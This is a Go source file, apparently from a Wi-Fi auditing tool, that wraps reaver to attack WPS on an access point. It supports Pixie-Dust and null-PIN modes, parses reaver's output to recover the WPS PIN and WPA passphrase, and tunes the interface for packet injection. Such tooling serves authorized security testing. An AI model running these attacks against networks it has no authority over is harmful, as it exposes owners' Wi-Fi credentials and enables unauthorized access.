package wps

import (
	"context"
	"errors"
	"fmt"
	"log"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/airwarden/internal/adapters/process"
	"github.com/lcalzada-xor/airwarden/internal/core/domain"
	"github.com/lcalzada-xor/airwarden/internal/core/ports"
)

// Default per-attempt bounds.
const (
	DefaultTimeout           = 300 * time.Second
	DefaultBruteforceTimeout = 600 * time.Second
	bitrateTimeout           = 5 * time.Second
)

// ErrNoPIN is returned when reaver exits without recovering a PIN.
var ErrNoPIN = errors.New("attack finished but no PIN found")

// Stage is the progress reaver reports while attacking.
type Stage string

const (
	StageAssociating    Stage = "associating"
	StageExchangingKeys Stage = "exchanging_keys"
	StageCracking       Stage = "cracking"
)

// ReaverParser handles the parsing of Reaver output
type ReaverParser struct {
	pinRegex    *regexp.Regexp
	pskRegex    *regexp.Regexp
	assocRegex  *regexp.Regexp
	cryptoRegex *regexp.Regexp
	crackRegex  *regexp.Regexp
	failRegex   *regexp.Regexp
}

func NewReaverParser() *ReaverParser {
	return &ReaverParser{
		pinRegex:    regexp.MustCompile(`WPS PIN:\s*['"]?([0-9]+)['"]?`),
		pskRegex:    regexp.MustCompile(`WPA PSK:\s*['"]?([^'"]+)['"]?`),
		assocRegex:  regexp.MustCompile(`Waiting for beacon from|Associated with`),
		cryptoRegex: regexp.MustCompile(`Sending EAPOL|WPS transaction successful|Sending identity response`),
		crackRegex:  regexp.MustCompile(`Pixiewps|Running pixiewps|Trying pin`),
		failRegex:   regexp.MustCompile(`Detected AP rate limiting|Failed to associate|WPS transaction failed|Receive timeout occurred|Pixie-Dust.*not found|WPS pin not found`),
	}
}

// ParseResult is what a single output line revealed.
type ParseResult struct {
	PIN     string
	PSK     string
	Stage   Stage
	Failure string
}

func (p *ReaverParser) ParseLine(line string) ParseResult {
	var res ParseResult

	if matches := p.pinRegex.FindStringSubmatch(line); len(matches) > 1 {
		res.PIN = matches[1]
	}
	if matches := p.pskRegex.FindStringSubmatch(line); len(matches) > 1 {
		res.PSK = matches[1]
	}

	switch {
	case p.assocRegex.MatchString(line):
		res.Stage = StageAssociating
	case p.cryptoRegex.MatchString(line):
		res.Stage = StageExchangingKeys
	case p.crackRegex.MatchString(line):
		res.Stage = StageCracking
	}

	if m := p.failRegex.FindString(line); m != "" {
		res.Failure = m
	}
	return res
}

// Cracker implements ports.WPSCracker using reaver.
type Cracker struct {
	launcher   *process.Launcher
	parser     *ReaverParser
	reaverPath string
}

var _ ports.WPSCracker = (*Cracker)(nil)

// NewCracker creates a reaver driver.
func NewCracker(launcher *process.Launcher) *Cracker {
	return &Cracker{
		launcher:   launcher,
		parser:     NewReaverParser(),
		reaverPath: "reaver",
	}
}

// SetToolPath overrides the reaver binary.
func (c *Cracker) SetToolPath(reaverPath string) {
	if reaverPath != "" {
		c.reaverPath = reaverPath
	}
}

// HealthCheck verifies if the necessary tools are installed
func (c *Cracker) HealthCheck(ctx context.Context) error {
	return c.launcher.Require(c.reaverPath)
}

// TimeoutFor returns the default bound for an attack mode.
func TimeoutFor(mode domain.AttackType) time.Duration {
	if mode == domain.AttackWPSBruteforce {
		return DefaultBruteforceTimeout
	}
	return DefaultTimeout
}

// BuildReaverArgs renders the reaver command line for a request.
func BuildReaverArgs(req ports.WPSRequest) []string {
	args := []string{
		"-i", req.Interface,
		"-b", req.BSSID,
		"-c", strconv.Itoa(req.Channel),
		"-vv",
		"-L", // ignore locked state
		"-N", // no NACKs
		"-T", "0.5",
		"-d", "2",
	}

	switch req.Mode {
	case domain.AttackWPSPixie:
		args = append(args, "-K", "1")
	case domain.AttackWPSNullPin:
		args = append(args, "-p", "")
	}
	return args
}

// Crack runs reaver until it reports a PIN, exits or the timeout fires.
// A timeout yields a *domain.ProcessTimeoutError unless a PIN was already seen.
func (c *Cracker) Crack(ctx context.Context, req ports.WPSRequest) (ports.WPSResult, error) {
	if !req.Mode.IsWPS() {
		return ports.WPSResult{}, fmt.Errorf("%s is not a WPS attack", req.Mode)
	}
	timeout := req.Timeout
	if timeout <= 0 {
		timeout = TimeoutFor(req.Mode)
	}

	id := uuid.New().String()[:8]
	c.optimizeInterface(ctx, req.Interface)

	runCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	args := BuildReaverArgs(req)
	log.Printf("[WPS-ATTACK-%s] Starting reaver with args: %v", id, args)
	p, err := c.launcher.Start(runCtx, true, c.reaverPath, args...)
	if err != nil {
		return ports.WPSResult{}, err
	}
	defer p.Stop()

	var (
		res         ports.WPSResult
		stage       Stage
		lastFailure string
	)
	scanner := process.NewLineScanner(p.Output())
	for scanner.Scan() {
		line := strings.TrimSpace(scanner.Text())
		if line == "" {
			continue
		}
		r := c.parser.ParseLine(line)
		if r.PIN != "" {
			res.PIN = r.PIN
		}
		if r.PSK != "" {
			res.PSK = r.PSK
		}
		if r.Stage != "" && r.Stage != stage {
			stage = r.Stage
			log.Printf("[WPS-ATTACK-%s] %s", id, stage)
		}
		if r.Failure != "" {
			lastFailure = r.Failure
		}
		if res.PIN != "" && res.PSK != "" {
			break
		}
	}

	select {
	case <-p.Done():
	case <-runCtx.Done():
	}
	p.Stop()

	if res.PIN != "" {
		log.Printf("[WPS-ATTACK-%s] PIN recovered for %s", id, req.BSSID)
		return res, nil
	}
	if errors.Is(runCtx.Err(), context.DeadlineExceeded) && ctx.Err() == nil {
		return res, &domain.ProcessTimeoutError{Command: c.reaverPath, Timeout: timeout}
	}
	if ctx.Err() != nil {
		return res, ctx.Err()
	}
	if lastFailure != "" {
		return res, fmt.Errorf("%w: %s", ErrNoPIN, lastFailure)
	}
	if err := p.Err(); err != nil {
		return res, fmt.Errorf("reaver exited with error: %w", err)
	}
	return res, ErrNoPIN
}

// optimizeInterface drops to legacy rates, which makes injection more reliable.
func (c *Cracker) optimizeInterface(ctx context.Context, iface string) {
	out, err := c.launcher.Output(ctx, bitrateTimeout, "iw", "dev", iface, "set", "bitrates", "legacy-2.4", "1", "2", "5.5", "11", "legacy-5", "6", "9", "12")
	if err != nil {
		if strings.Contains(string(out), "Operation not supported") || strings.Contains(string(out), "No such device") {
			return
		}
		log.Printf("Note: Could not optimize bitrate for %s: %v", iface, err)
	}
}
